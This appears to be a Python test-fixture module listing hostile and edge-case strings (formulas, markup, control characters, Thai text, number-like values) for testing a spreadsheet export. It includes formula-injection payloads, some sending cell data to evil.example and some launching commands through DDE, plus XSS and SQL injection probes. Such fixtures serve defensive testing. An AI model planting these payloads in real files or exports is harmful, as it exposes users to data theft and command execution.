"""Texts that break files of people who were careless: formulas, markup, controls, what looks like numbers, what is too long."""

from __future__ import annotations

LONG, TOO_LONG = "ก" * 2_000, "ยาว" * 13_400
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"กดที่นี่")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A5)',
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "=1+1",
    "=",
    "-",
    "@",
    "+",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
    "{=1+1}",
    '","=1+1","',
)
MARKUP = (
    "_x0041_",
    "_x000D_ _x005F_x0041_",
    "]]>",
    "<![CDATA[x]]>",
    "&amp; &lt;b&gt; & < >",
    "&#0; &#xFFFE;",
    "<script>alert(1)</script>",
    "</t></is></c></row></sheetData>",
    "\"ในเครื่องหมาย\" 'คำพูด' “ไทย”",
    "%s %(x)s {0} %",
    "(OFFICES)",
    "1048101 <v>1047101</v>",
    "; DROP TABLE area; --",
)
CONTROLS = (
    "ก่อน\x00หลัง",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f ควบคุม",
    "\x7f\x85\u2028\u2029 บรรทัด",
    "\ufffe\uffff ไม่ใช่อักษร",
    "\ufeff นำหน้า",
)
SIGNS = (
    "😀👍🏽 อิโมจิ",
    "👩‍👩‍👧‍👦 ‍ZWJ",
    "\u202eกลับหลัง\u202c",
    "ก\u0e49\u0e49\u0e49\u0e49 e\u0301\u0327 รวม",
    "𝕏𠀀 นอกระนาบ",
    "\u200bไม่มีความกว้าง\u2060",
    LONG,
    TOO_LONG,
    "บรรทัดหนึ่ง\nบรรทัดสอง\r\nบรรทัดสาม",
    "  เว้นหน้าและหลัง  ",
    "\u00a0\u3000เว้นแปลก",
)
NUMBERS = (
    "0012",
    "1E5",
    "-5.5",
    "TRUE",
    "0x1F",
    "1,234.50",
    "๑๒๓",
    "12345678901234567890",
    "31/03/2566",
    "2023-03-31",
    "1/2",
    "#REF!",
    "#N/A",
    "nan",
    "null",
)
VALUES = (*FORMULAS, *MARKUP, *CONTROLS, *SIGNS, *NUMBERS)
